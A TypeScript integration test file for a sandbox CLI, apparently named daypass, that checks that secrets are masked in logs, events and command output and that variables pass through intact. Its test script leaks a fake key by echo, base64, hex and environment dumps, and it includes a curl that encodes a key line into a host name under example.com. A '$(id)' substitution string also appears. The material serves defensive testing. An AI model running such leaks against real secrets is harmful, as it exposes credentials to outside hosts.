import { createHash } from 'node:crypto';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { runDaypass } from '../support/run-daypass.ts';
import { API_KEY, startStack, type Stack } from '../support/stack.ts';
import { createRepo, logOf, settled, startSession } from './session.ts';

/** Four lines, one of which a host name can hold. */
const LINES = [
  '-----BEGIN FAKE KEY-----',
  'Fake-Line-Of-A-Test',
  'obviouslyFake/second+line==',
  '-----END FAKE KEY-----',
];
const PEM = `${LINES.join('\n')}\n`;
const PASSWORD = 'hunter2hunter2';

let stack: Stack;
let repo: string;
let dir: string;
beforeAll(async () => {
  stack = await startStack();
  repo = await createRepo(stack);
  dir = await mkdtemp(join(tmpdir(), 'daypass-secret-'));
});
afterAll(async () => {
  await stack?.[Symbol.asyncDispose]();
  if (dir !== undefined) await rm(dir, { recursive: true, force: true });
});

const daypass = (args: string[], env: Record<string, string> = {}) =>
  runDaypass(args, { DAYPASS_API_URL: stack.apiUrl, DAYPASS_API_KEY: API_KEY, ...env });

/** Every way in which a key in a variable is printed by accident. */
const PRINTS = `
  printf %s "$K"; echo; echo "$K" >&2; printf '%s\\n' "$K" | sed -n 2p; printf '%s\\n' "$K" | sed 's/^/    /'
  printf '%s\\n' "$K" | cat -n; printf '%s\\n' "$K" | tr '\\n' ' '; echo; echo $K; printf '%s\\n' "$K" | sed 's/$/\\r/'
  printf '%s\\n' "$K" | tac; printf %s "$K" | base64; printf '%s\\n' "$K" | base64 -w 20; printf %s "$K" | xxd -p 2>/dev/null
  printf %s "$K" | od -An -v -tx1; node -p 'JSON.stringify({ key: process.env.K })'; node -p 'process.env'; env | sort
  printf '%s\\n' "$K" | while read -r line; do printf '[%s]\\n' "$line"; sleep 0.05; done; printf %s "$P"; echo; echo "$P"
  curl -s -m 5 -x http://127.0.0.1:3128 "https://$(printf '%s\\n' "$K" | sed -n 2p).example.com/"; exit 3`;

test('no line of a key that is printed in every way is in log, events or what the command line shows', async () => {
  const secrets = { K: PEM, P: `${PASSWORD}\n` };
  const { id } = await startSession(stack, { repos: [{ id: repo }], command: ['sh', '-c', PRINTS], secrets });
  await settled(stack, id);
  await writeFile(join(dir, 'key'), `\ufeff${PEM.replaceAll('\n', '\r\n')}`);
  const args = ['run', '--repo', repo, '--secret', `K=@${join(dir, 'key')}`, '--secret', 'P', '--', 'sh', '-c', PRINTS];
  const run = await daypass(args, { P: PASSWORD });
  expect(run.exitCode).toBe(3);
  const log = await logOf(stack, id);
  expect(log.match(/\[secret\]/g)?.length).toBeGreaterThan(30);
  expect(log).toContain('     2\t[secret]');
  const events = await (await stack.call('GET', `/v1/sessions/${id}/events?limit=200`)).text();
  expect(events).toContain('[secret].example.com');
  const session = await (await stack.call('GET', `/v1/sessions/${id}`)).text();
  const logs = await daypass(['logs', id]);
  const shown = [
    log,
    events,
    session,
    run.stdout,
    run.stderr,
    logs.stdout,
    logs.stderr,
    (await daypass(['show', id])).stdout,
  ];
  for (const text of shown) {
    for (const line of [...LINES, PASSWORD]) expect(text.toLowerCase()).not.toContain(line.toLowerCase());
    for (const line of [...LINES, PASSWORD]) {
      expect(text).not.toContain(Buffer.from(line).toString('base64').slice(4, -4));
      expect(text.replaceAll(/\s/g, '')).not.toContain(Buffer.from(line).toString('hex'));
    }
  }
}, 120_000);

const VALUES: Record<string, string> = {
  BREAKS: 'a\nb\r\nc\n\n',
  QUOTES: `"double" 'single' \`back\` $HOME $(id) \${x} \\n \\`,
  TABS: '\tx\t y ',
  EMOJI: '\u{1f511}é\u2028z',
  EMPTY: '',
  LONG: `${'0123456789abcdef'.repeat(2_047)}end`.padEnd(32_768, '.'),
};
/** The length and hash of each variable, as the sandbox has it. */
const HASHES = `const { createHash } = require('crypto');
  for (const name of process.argv.slice(1)) console.log(name, createHash('sha256').update(process.env[name] ?? 'not set').digest('hex'))`;

function expected(prefix: string): string[] {
  return Object.entries(VALUES).map(
    ([name, value]) => `${prefix}${name} ${createHash('sha256').update(value).digest('hex')}`,
  );
}

test('variables and secrets of every kind arrive as they were given, by API and by command line', async () => {
  const named = (prefix: string) =>
    Object.fromEntries(Object.entries(VALUES).map(([name, value]) => [prefix + name, value]));
  const env = named('E_');
  const secrets = named('S_');
  const command = ['node', '-e', HASHES, ...Object.keys({ ...env, ...secrets })];
  const { id } = await startSession(stack, { repos: [{ id: repo }], command, env, secrets });
  expect((await settled(stack, id)).status).toBe('succeeded');
  const wanted = [...expected('E_'), ...expected('S_')];
  expect((await logOf(stack, id)).trim().split('\n')).toEqual(wanted);

  const given = Object.entries(env).flatMap(([name, value], i) => ['--env', i % 2 === 0 ? name : `${name}=${value}`]);
  const held = Object.keys(secrets).flatMap((name) => ['--secret', name]);
  const run = await daypass(['run', '--repo', repo, ...given, ...held, '--', ...command], { ...env, ...secrets });
  expect(run.stdout.trim().split('\n')).toEqual(wanted);
}, 120_000);

test('a short secret runs once it is named, and many large ones are refused with what is allowed', async () => {
  const short = await daypass(['run', '--repo', repo, '--secret', 'PIN', '--', 'sh', '-c', 'echo "$PIN"'], {
    PIN: 'abc',
  });
  expect(short).toMatchObject({ exitCode: 125, stdout: '', stderr: expect.stringContaining('secret_too_short') });
  expect(short.stderr).toContain('unmaskedSecrets');
  const args = ['run', '--repo', repo, '--secret', 'PIN', '--unmasked', 'PIN', '--', 'sh', '-c', 'echo "$PIN"'];
  expect(await daypass(args, { PIN: 'abc' })).toMatchObject({ exitCode: 0, stdout: 'abc\n' });
  const many = Object.fromEntries(Array.from({ length: 40 }, (_, i) => [`S${i}`, 'x'.repeat(32_768)]));
  const refused = await daypass(
    ['run', '--repo', repo, ...Object.keys(many).flatMap((name) => ['--secret', name]), '--', 'true'],
    many,
  );
  expect(refused).toMatchObject({ exitCode: 125, stderr: expect.stringMatching(/at most \d+ bytes/) });
  const most = Object.fromEntries(Object.entries(many).slice(0, 8));
  const { id } = await startSession(stack, {
    repos: [{ id: repo }],
    command: ['sh', '-c', 'echo "$S7" | wc -c'],
    secrets: most,
  });
  expect((await settled(stack, id)).status).toBe('succeeded');
  expect((await logOf(stack, id)).trim()).toBe('32769');
}, 120_000);
